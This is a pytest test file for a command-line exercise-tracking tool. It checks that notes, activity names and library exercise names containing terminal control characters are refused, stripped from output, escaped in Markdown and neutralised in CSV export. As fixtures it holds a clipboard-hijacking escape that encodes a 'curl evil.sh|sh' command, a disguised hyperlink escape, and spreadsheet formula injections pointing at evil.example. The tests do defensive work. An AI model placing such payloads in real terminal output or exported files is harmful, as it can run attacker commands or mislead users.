"""Text is data (data-safety.md promise 12, DS12): control characters refused at input, stripped
from what is displayed, Markdown escaped, spreadsheet formulas neutralised; and the limits on
stored text.

Before the fix, a note with `\\x1b]52;…` (a clipboard write) or `\\x1b]8;;URL` (a hyperlink) was
stored and printed raw by `log list`; PSFS names and user-library exercise names reached
`checkin`, `today`, `exercises show` and the Markdown report raw; `log export --csv` wrote
`=HYPERLINK(…)` as a formula.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os

import pytest

from facetcoach import paths
from facetcoach.log.store import load_entries
from facetcoach.model_json import dumps
from facetcoach.models import Checkin
from facetcoach.safe_text import NOTE_CHARACTERS, csv_cell, shown
from helpers import plan_factory
from helpers.logtools import a_session, plain_log, saved_plan, write_log, write_raw

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
TODAY = "2026-12-09"
CHECKIN = "nprs = 5\nodi = [2, 2, 2, 2, 2, 2, 2, 1, 1, -1]\n"


@pytest.fixture
def plan(monkeypatch):
    monkeypatch.setenv("FACETCOACH_TODAY", TODAY)
    return saved_plan()


def _noted(note: str, entry=None):
    """A session with `note` as stored, past the checks of the input (as an older facetcoach,
    or a hand edit given a fresh digest, may have stored it)."""
    return dataclasses.replace(entry or a_session(), note=note)


def _no_control(text: str) -> bool:
    return not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in text)


# --- Refused at input ---------------------------------------------------------------------------


@pytest.mark.parametrize("bad", [CLIPBOARD, LINK, "bell\x07", "over\rwrite"])
def test_a_note_with_a_control_character_is_refused(plan, cli, tmp_path, bad):
    (tmp_path / "c.toml").write_text(CHECKIN)
    for args in (
        ["log", "--pain-before", "3", "--note", bad],
        ["log", "--symptom", "numbness", "--note", bad],
        ["checkin", "--answers", str(tmp_path / "c.toml"), "--note", bad],
    ):
        result = cli(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "The note holds" in result.stderr and "(U+00" in result.stderr
        assert _no_control(result.stderr)
    assert load_entries() == []


def test_log_edit_refuses_a_control_character_too(plan, cli):
    assert cli("log", "--pain-before", "3").exit_code == 0
    entry = load_entries()[0]
    result = cli("log", "edit", entry.id[:8], "--note", CLIPBOARD)
    assert result.exit_code == 2 and "The note holds an escape (U+001B)" in result.stderr
    assert load_entries() == [entry]


def test_a_note_may_hold_line_breaks_and_tabs(plan, cli):
    assert cli("log", "--note", "stiff\n\tthen better").exit_code == 0
    assert load_entries()[0].note == "stiff\n\tthen better"


def test_a_note_longer_than_the_limit_is_refused(plan, cli):
    result = cli("log", "--note", "x" * (NOTE_CHARACTERS + 1))
    assert result.exit_code == 2 and f"at most {NOTE_CHARACTERS:,} are kept" in result.stderr


def test_a_psfs_activity_with_a_control_character_is_refused(plan, cli, tmp_path):
    answers = tmp_path / "c.toml"
    answers.write_text(CHECKIN + '[psfs]\n"walk\\u001b]52;c;eA==\\u0007ing" = 4\n')
    result = cli("checkin", "--answers", str(answers))
    assert result.exit_code == 2, result.output
    assert "holds an escape (U+001B)" in result.stderr and _no_control(result.stderr)
    from facetcoach.checkin.form import parse_activity
    from facetcoach.errors import InputError

    with pytest.raises(InputError, match="holds an escape"):
        parse_activity("walk\x1bing")  # the interactive check-in


def test_an_import_with_a_control_character_is_refused(plan, cli, tmp_path):
    exported = tmp_path / "laptop.json"
    exported.write_text(plain_log([_noted(f"after {LINK}")]))
    result = cli("log", "import", str(exported))
    assert result.exit_code == 2, result.output
    assert "holds an escape (U+001B)" in result.stderr and "nothing was imported" in result.stderr
    assert load_entries() == []


def test_an_import_with_a_huge_note_or_file_is_refused(plan, cli, tmp_path):
    """The issue's 200 MB note: a documented limit per text field and per file."""
    exported = tmp_path / "laptop.json"
    exported.write_text(plain_log([_noted("x" * (NOTE_CHARACTERS + 1))]))
    result = cli("log", "import", str(exported))
    assert result.exit_code == 2 and f"at most {NOTE_CHARACTERS:,}" in result.stderr
    huge = tmp_path / "huge.json"
    with open(huge, "wb") as sparse:
        sparse.truncate(200 * 1024 * 1024)  # 200 MB, sparse: nothing to write
    result = cli("log", "import", str(huge))
    assert result.exit_code == 2, result.output
    assert "is 200 MB; a log to import is at most 64 MB" in result.stderr
    assert load_entries() == []


def test_a_user_library_name_with_a_control_character_is_refused(cli, tmp_path):
    from test_library import exercise_toml, user_library

    mine = user_library(tmp_path, exercise_toml(name='"Bird\\u001b]8;;https://x\\u001b\\\\dog"'))
    result = cli("--library", str(mine), "exercises")
    assert result.exit_code == 1, result.output
    assert "field 'name': must be plain text (no control character)" in result.stderr
    assert _no_control(result.stderr)


# --- Stripped from what is displayed --------------------------------------------------------


def _hostile_log_and_plan() -> None:
    """What an older facetcoach (or a hand edit given a fresh digest) may have stored."""
    plan = plan_factory.plan()
    exercises = [dataclasses.replace(e, name=e.name + CLIPBOARD) for e in plan.exercises]
    # Written as bytes: facetcoach's own save_plan refuses such a plan (promise 12).
    write_raw(dumps(dataclasses.replace(plan, exercises=exercises)), "plan.json")
    checkin = a_session()
    checkin = dataclasses.replace(
        checkin, kind="checkin", done=[], planned=[], checkin=Checkin(
            nprs=4, odi=[2] * 10, psfs={f"walking{CLIPBOARD}": 4}
        ), note=f"the note {LINK}",
    )  # fmt: skip
    write_log([_noted(f"knee {CLIPBOARD} sore"), checkin])


@pytest.mark.parametrize(
    "args",
    [
        ["log", "list"],
        ["today"],
        ["plan", "show"],
        ["progress"],
        ["report", "--format", "md"],
        ["report", "--format", "html"],
    ],
    ids=" ".join,
)
def test_control_characters_never_reach_the_screen(cli, monkeypatch, args):
    monkeypatch.setenv("FACETCOACH_TODAY", TODAY)
    _hostile_log_and_plan()
    result = cli(*args)
    assert result.exit_code == 0, result.output
    assert _no_control(result.stdout), repr(result.stdout[:2000])


def test_exercises_show_strips_a_user_librarys_text(cli, tmp_path, monkeypatch):
    """A library read before this check existed is refused now; what is shown is stripped
    anyway, for any text that reaches the screen (the rendering, directly)."""
    from rich.console import Console

    from facetcoach.library.loading import load_library
    from facetcoach.render.exercises import exercise_card, library_tables

    library = load_library()
    exercise = dataclasses.replace(library.exercises[0], name="Bird" + CLIPBOARD,
                                   steps=["Kneel" + LINK])  # fmt: skip
    out = Console(file=io.StringIO(), width=100, force_terminal=False)
    out.print(exercise_card(exercise, [exercise]))
    out.print(library_tables([exercise]))
    assert _no_control(out.file.getvalue())


def test_the_markdown_report_escapes_exercise_names(cli, monkeypatch):
    monkeypatch.setenv("FACETCOACH_TODAY", TODAY)
    plan = plan_factory.plan()
    exercises = [dataclasses.replace(e, name=e.name + " | <b>x</b>") for e in plan.exercises]
    from facetcoach.program.store import save_plan

    save_plan(dataclasses.replace(plan, exercises=exercises))
    write_log([a_session()])
    result = cli("report", "--format", "md")
    assert "<b>" not in result.stdout and "\\<b\\>x\\</b\\>" in result.stdout


# --- Spreadsheets ---------------------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(plan, cli):
    notes = ['=HYPERLINK("https://evil.example","x")', "@SUM(A1:A9)", "+1", "-2", "\tx", "fine"]
    write_log([_noted(note) for note in notes])
    result = cli("log", "export", "--csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["note"] for row in rows] == ["'" + n for n in notes[:5]] + ["fine"]
    assert csv_cell(-1) == -1 and csv_cell("0 -1") == "0 -1"


def test_json_output_keeps_the_text_as_stored(plan, cli):
    """Scripts get the data itself: JSON escapes control characters already."""
    write_log([_noted(f"knee {CLIPBOARD}")])
    result = cli("log", "list", "--json")
    assert json.loads(result.stdout)[0]["note"] == f"knee {CLIPBOARD}"
    assert "\x1b" not in result.stdout
    assert shown(f"a{CLIPBOARD}b") == "a]52;c;Y3VybCBldmlsLnNofHNob"
    assert paths.log_file().exists() and os.environ["FACETCOACH_TODAY"] == TODAY
